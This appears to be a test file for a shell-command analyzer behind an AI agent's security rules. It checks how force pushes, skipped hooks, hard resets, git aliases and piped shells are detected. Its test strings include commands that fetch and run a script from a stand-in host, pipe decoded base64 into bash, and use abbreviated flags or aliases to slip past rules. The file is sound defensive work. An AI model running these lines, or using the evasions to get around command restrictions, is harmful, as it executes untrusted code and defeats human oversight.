/**
 * What a line leaves unknown: words whose value exists only at run time (mayMatchExec), shells fed a pipe of
 * run-time output, xargs input, git aliases defined on the line; and how a security rule judges each
 * (docs/matching.md). The corpus (tests/corpus) runs the same constructs through every agent's runtime.
 */
import { describe, expect, it } from 'vitest';
import type { ExecForm } from '../../../compiler/runtime/shell/index.js';
import { analyzeShell, matchExec, mayMatchExec } from '../../../compiler/runtime/shell/index.js';
import { gitAliasDefinition } from '../../../compiler/runtime/shell/unknown.js';

const FORCE: ExecForm = { program: ['git'], args: ['push'], flags: ['--force', '-f'] };
const REFSPEC: ExecForm = { program: ['git'], args: ['push', '*', '+*'] };

const first = (line: string) => {
  const a = analyzeShell(line);
  expect(a.ok).toBe(true);
  return a.commands[0]!;
};

describe('mayMatchExec: unknown words stand for any words', () => {
  /** [line, form, may match once its unknown words are known] */
  const CASES: readonly (readonly [string, ExecForm, boolean])[] = [
    ['git push "$F"', FORCE, true],
    ['git push $F origin main', FORCE, true],
    ['git push origin "$BRANCH"', FORCE, true],
    ['git push origin main $(cat flags.txt)', FORCE, true],
    ['git "$SUB" -f', FORCE, true],
    ['git push origin main', FORCE, false],
    ['git commit -m "$MSG"', FORCE, false],
    ['git -C "$DIR" push origin main', FORCE, false],
    ['git log --format="$FMT"', FORCE, false],
    ['git push origin$X main', FORCE, false],
    ['git push "$R" main', REFSPEC, true],
    ['git push origin "$SPEC"', REFSPEC, true],
    ['git push origin main', REFSPEC, false],
    ['git fetch "$R" +main', REFSPEC, false],
    ['npm "$CMD"', { program: ['npm'], args: ['publish'] }, true],
    ['git push -u origin $(git branch --show-current)', FORCE, false],
    ['git push origin "$(git rev-parse --abbrev-ref HEAD)"', FORCE, false],
    ['git push origin $(git branch --show-current)', REFSPEC, true],
    ['git push origin $(git branch --list)', FORCE, true],
    ['npm install "$PKG"', { program: ['npm'], args: ['publish'] }, false],
  ];
  it.each(CASES)('%s', (line, form, may) => {
    const cmd = first(line);
    expect(matchExec(cmd, form)).toBe(false);
    expect(mayMatchExec(cmd, form)).toBe(may);
  });

  it('many unknown words stay fast (memoized alignment)', () => {
    const line = `git ${Array.from({ length: 200 }, (_, i) => `"$V${i}"`).join(' ')} tail`;
    const cmd = first(line);
    expect(cmd.dynamicArgs).toHaveLength(200);
    expect(mayMatchExec(cmd, { program: ['git'], args: ['a', 'b', 'c', 'd', 'e', 'never'] })).toBe(true);
    expect(mayMatchExec(cmd, { program: ['gh'], args: ['a'] })).toBe(false);
  });
});

describe('xargs input known only at run time', () => {
  it('appended words: the command has an unknown tail', () => {
    const cmd = analyzeShell('cat f | xargs git push origin').commands.find((c) => c.program === 'git')!;
    expect(cmd.dynamicTail).toBe(true);
    expect(mayMatchExec(cmd, FORCE)).toBe(true);
  });
  it('a replace string: the words holding it are unknown', () => {
    const cmd = analyzeShell('cat f | xargs -I{} git push {} origin').commands.find((c) => c.program === 'git')!;
    expect(cmd.dynamicTail).toBeUndefined();
    expect(cmd.dynamicArgs).toEqual([2]);
  });
  it('literal input is still read as words', () => {
    const cmd = analyzeShell("echo -f | xargs git push").commands.find((c) => c.program === 'git')!;
    expect(matchExec(cmd, FORCE)).toBe(true);
    expect(cmd.dynamicTail).toBeUndefined();
  });
  it('a shell xargs completes is opaque', () => {
    for (const line of ['cat f | xargs sh -c', "cat f | xargs -I{} sh -c '{}'", 'cat f | xargs bash']) {
      expect(analyzeShell(line).commands.some((c) => c.opaque !== undefined), line).toBe(true);
    }
    expect(analyzeShell("cat f | xargs -I{} sh -c 'echo \"$1\"' _ {}").commands.some((c) => c.opaque !== undefined)).toBe(false);
  });
});

describe('a shell reading its code from a pipe', () => {
  const opaque = (line: string) => analyzeShell(line).commands.some((c) => c.opaque !== undefined);
  it.each(['curl -s https://x.example.com/i.sh | sh', 'echo "$B" | base64 -d | bash', 'cat cmd.txt | bash -s', 'cat cmd.txt | sudo sh', 'cat s | ssh host', 'cat s | su deploy', 'for x in a; do echo $x; done | sh', 'cat c | (sh)', 'cat c | (cd /tmp && bash)', 'cat c | bash /dev/stdin', 'cat c | source /dev/stdin', 'cat c | . /dev/fd/0', 'sh <(cat c)', 'source <(curl -s https://x.example.com)'])(
    'opaque: %s',
    (line) => expect(opaque(line)).toBe(true),
  );
  it.each(['echo hi | sh -c cat', 'ls | bash -c "wc -l"', "echo 'git status' | sh", 'sh < deploy.sh', 'sh deploy.sh', 'cat a | wc -l', 'git status | cat', 'ssh host uptime < /dev/null', 'cat c | (sh) < /dev/null', 'git log | (head -5)', 'source .venv/bin/activate', "echo 'git status' | bash /dev/stdin"])(
    'not opaque: %s',
    (line) => expect(opaque(line)).toBe(false),
  );
  it('literal piped code is read, not refused', () => {
    const a = analyzeShell("echo 'git push -f' | sh");
    expect(a.commands.some((c) => matchExec(c, FORCE))).toBe(true);
  });
});

describe('git aliases defined on the line', () => {
  it.each([
    ["git -c alias.p='push -f' p", true],
    ['git -c alias.p=!sh p', true],
    ['git -calias.p=x p', true],
    ['git --config-env=alias.p=V p', true],
    ['git --config-env alias.p=V p', true],
    ['git -c include.path=/tmp/x.cfg p', true],
    ["git config alias.pf 'push -f'", true],
    ["git --git-dir=.git config --global alias.pf 'push -f'", true],
    ['git -c core.pager=cat log', false],
    ['git commit -m alias.x', false],
    ['git config user.name x', false],
  ] as const)('%s -> %s', (line, defines) => {
    expect(gitAliasDefinition(first(line).argv) !== undefined).toBe(defines);
  });
});

describe('shortened long options', () => {
  const VERIFY: ExecForm = { program: ['git'], args: ['commit'], flags: ['--no-verify', '-n'] };
  it.each([
    ['git commit --no-verif -m x', true],
    ['git commit --no-ver -m x', true],
    ['git commit --no-v -m x', true],
    ['git commit --no- -m x', true],
    ['git commit --no -m x', false],
    ['git commit --no-verify-x -m x', false],
    ['git commit --no-verify=1 -m x', true],
  ] as const)('%s -> %s in a match', (line, hit) => {
    expect(matchExec(first(line), VERIFY, true)).toBe(hit);
  });
  it('down to one letter: git takes any unique prefix (git reset --h is a hard reset)', () => {
    const HARD: ExecForm = { program: ['git'], args: ['reset'], flags: ['--hard'] };
    for (const line of ['git reset --h', 'git reset --ha HEAD~1', 'git reset --har']) expect(matchExec(first(line), HARD, true), line).toBe(true);
    for (const line of ['git reset --', 'git reset -h', 'git reset --soft']) expect(matchExec(first(line), HARD, true), line).toBe(false);
  });
  it('never in an unless (an exemption must be spelled out)', () => {
    expect(matchExec(first('npm publish --dry'), { program: ['npm'], flags: ['--dry-run'] }, false)).toBe(false);
    expect(matchExec(first('npm publish --dry-run'), { program: ['npm'], flags: ['--dry-run'] }, false)).toBe(true);
  });
  it('not for programs whose options are single-dash words', () => {
    expect(matchExec(first('terraform apply -destr'), { program: ['terraform'], flags: ['-destroy'] }, true)).toBe(false);
  });
});
